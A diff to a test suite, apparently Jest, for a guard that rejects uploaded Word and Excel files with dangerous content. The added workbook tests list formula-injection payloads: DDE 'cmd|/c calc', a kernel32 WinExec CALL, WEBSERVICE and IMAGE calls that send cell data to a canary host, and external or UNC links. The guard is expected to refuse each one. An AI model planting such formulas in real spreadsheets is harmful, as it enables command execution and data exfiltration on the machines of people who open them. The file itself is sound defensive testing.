@@ -24,6 +24,8 @@ const measured = async (file: Buffer) => {
   return { refusal, cpuMs: (user + system) / 1000, addedBytes: process.memoryUsage().rss - before };
 };
 
+const cell = (formula: string) => buildXlsx({ rows: `<row r="2"><c r="B2"><f>${formula}</f></c></row>` });
+
 const groups = {
   'a file that is no Word document': brokenFiles,
   'an archive that lies': lyingArchives,
@@ -89,6 +91,15 @@ describe('the guard', () => {
     expect(await guardDocx(file)).toBeUndefined();
   });
 
+  test('lets pictures pass whatever their type is called', async () => {
+    const file = buildDocx({
+      parts: [
+        { name: 'word/media/a.bin', content: makePng(1, 1), type: 'application/octet-stream', use: 'image' },
+      ],
+    });
+    expect(await guardDocx(file)).toBeUndefined();
+  });
+
   test('names the part it does not like', async () => {
     const file = buildDocx({ parts: [{ name: 'customXml/item1.xml', content: '<!DOCTYPE x><x/>' }] });
     expect(await guardDocx(file)).toMatchObject({ part: 'customXml/item1.xml' });
@@ -113,6 +124,61 @@ describe('the guard', () => {
 });
 
 describe('the guard of workbooks', () => {
+  test.each([
+    "cmd|'/c calc'!A0",
+    "'cmd'|'/c calc'!A0",
+    "Table1['#x]+cmd|'/c calc'!A0",
+    'WEBSERVICE(&quot;http://canary.test/&quot;&amp;A1)',
+    '_xlfn.WEBSERVICE(A1)',
+    'IF(A1,RTD(&quot;x&quot;,,&quot;y&quot;))',
+    'CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;)',
+    '_xlfn.IMAGE(&quot;https://canary.test/x.png&quot;)',
+    '[1]Sheet1!A1',
+    "'C:\\x\\[other.xlsx]Sheet1'!A1",
+    'INDIRECT(&quot;[other.xlsx]Sheet1!A1&quot;)',
+    'HYPERLINK(&quot;vnd.sun.star.script:x&quot;,1)',
+    'HYPERLINK(&quot;\\\\host\\share&quot;)',
+    'HYPERLINK(A1)',
+  ])('refuses the formula %s, and names its cell', async (formula) => {
+    const refusal = await guardXlsx(cell(formula));
+    expect(refusal).toMatchObject({ code: 'outside-formula', place: 'cell B2 of the sheet “Data”' });
+    expect(refusal?.message).toBe(refusalMessage('outside-formula'));
+  });
+
+  test('counts to the cell of a formula where the workbook does not say it', async () => {
+    const file = buildXlsx({ rows: '<row/><row><c r="AA2"/><c><f>WEBSERVICE(A1)</f></c></row>' });
+    expect(await guardXlsx(file)).toMatchObject({ place: 'cell AB2 of the sheet “Data”' });
+  });
+
+  test.each([
+    [
+      'rules for cells',
+      '<conditionalFormatting sqref="A1:B2"><cfRule><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>',
+      'the rule for the cells A1:B2 of the sheet “Data”',
+    ],
+    [
+      'the list of a choice',
+      '<dataValidations><dataValidation sqref="C3"><formula1>[1]X!A1</formula1></dataValidation></dataValidations>',
+      'the rule for the cells C3 of the sheet “Data”',
+    ],
+  ])('refuses what reaches outside in %s', async (_, sheetTail, place) => {
+    expect(await guardXlsx(buildXlsx({ sheetTail }))).toMatchObject({ code: 'outside-formula', place });
+  });
+
+  test.each([
+    'SUM(Table1[[#This Row],[a|b]])',
+    'IF(A1=&quot;a|b [1]x! WEBSERVICE(&quot;,1,2)',
+    "SUM('a|b'!A1:A9)",
+    'Table1[@Net]*2',
+    'SUMIFS(Log!$F$7:$F$66,Log!$D$7:$D$66,&quot;Hot&quot;)',
+    'HYPERLINK(&quot;https://acme.test/&quot;&amp;A1,&quot;x&quot;)',
+    'HYPERLINK(&quot;#Data!A1&quot;)',
+    'INDIRECT(&quot;A&quot;&amp;ROW())',
+    '[0]!Rate*2',
+  ])('lets the formula %s pass', async (formula) => {
+    expect(await guardXlsx(cell(formula))).toBeUndefined();
+  });
+
   test('lets an honest workbook pass', async () => {
     expect(await guardXlsx(buildXlsx({ strings: ['{{city}}'] }))).toBeUndefined();
   });
